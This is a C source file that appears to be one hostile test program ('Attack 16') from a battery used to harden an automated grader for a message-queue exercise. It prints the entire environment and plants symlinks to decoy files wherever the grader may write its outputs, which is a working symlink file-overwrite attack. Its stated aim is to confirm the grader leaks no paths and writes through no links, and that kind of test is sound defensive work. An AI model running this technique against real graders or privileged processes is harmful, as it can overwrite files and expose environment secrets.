/*
 * Attack 16 (links at the grader's paths): read the environment and plant symlinks, pointing
 * at the battery's decoy files (/tmp/hostile-decoy*), wherever the grader may write next: in
 * every folder a path-like variable names (results, transcripts, calibration, temporary
 * folder), under the names it uses (runN.stdout, outcome, criterion.json, ...). A grader that
 * writes as root through such a link overwrites the decoy. Also print the whole environment:
 * it shows the grader's paths. The grader must give the program no path of its own and write
 * nothing through a link: "MSGLAB_" and the repo's build paths must not show, the decoys stay.
 */
#define _GNU_SOURCE
#include <glob.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

extern char **environ;

static const char *const tests[] = {"received_lines", "parent_lines",  "exact_output",
				    "through_queue",  "exact_bytes",   "mtype_positive",
				    "end_marker",     "queue_removed", "children_waited",
				    "msgget_fails",   "ftok_key",      NULL};
static const char *const names[] = {
    "run1.stdout",   "run1.stderr",  "run1.trace",   "run1.sandbox",	 "run1.command",
    "run1.expected", "run1.actual",  "run2.stdout",  "run2.stderr",	 "run2.trace",
    "run2.sandbox",  "outcome",	     "seed",	     "criterion.json",	 "criterion.log",
    "report.json",   "results.json", "summary.json", "reference.stdout", NULL};

static const char *decoy;
static int planted;

static void plant(const char *dir, const char *name)
{
	char path[PATH_MAX + NAME_MAX + 2];
	snprintf(path, sizeof path, "%s/%s", dir, name);
	if (symlink(decoy, path) == 0) {
		planted++;
		printf("planted %s -> %s\n", path, decoy);
	}
}

static void plant_all(const char *dir)
{
	struct stat st;
	if (stat(dir, &st) != 0 || !S_ISDIR(st.st_mode))
		return;
	for (int i = 0; names[i]; i++)
		plant(dir, names[i]);
	for (int t = 0; tests[t]; t++) {
		char sub[PATH_MAX + NAME_MAX + 2];
		snprintf(sub, sizeof sub, "%s/%s", dir, tests[t]);
		if (mkdir(sub, 0777) != 0 && stat(sub, &st) != 0) {
			plant(dir, tests[t]); /* a link where the test's folder will be */
			continue;
		}
		for (int i = 0; names[i]; i++)
			plant(sub, names[i]);
	}
}

int main(void)
{
	glob_t g;
	static char own[64];
	if (glob("/tmp/hostile-decoy*/*", 0, NULL, &g) == 0 && g.gl_pathc > 0) {
		decoy = g.gl_pathv[0];
	} else {
		snprintf(own, sizeof own, "/tmp/hostile-16-target-%d", (int)getpid());
		decoy = own;
	}
	for (char **e = environ; *e; e++) {
		fprintf(stderr, "%s\n", *e);
		printf("%s\n", *e);
	}
	for (char **e = environ; *e; e++) {
		char *eq = strchr(*e, '=');
		if (!eq || eq[1] != '/')
			continue;
		char dir[PATH_MAX];
		snprintf(dir, sizeof dir, "%s", eq + 1);
		plant_all(dir);
		char *slash = strrchr(dir, '/');
		if (slash && slash != dir) {
			*slash = '\0';
			plant_all(dir);
		}
	}
	char cwd[PATH_MAX];
	if (getcwd(cwd, sizeof cwd))
		plant_all(cwd);
	printf("%d links planted\n", planted);
	return 1;
}
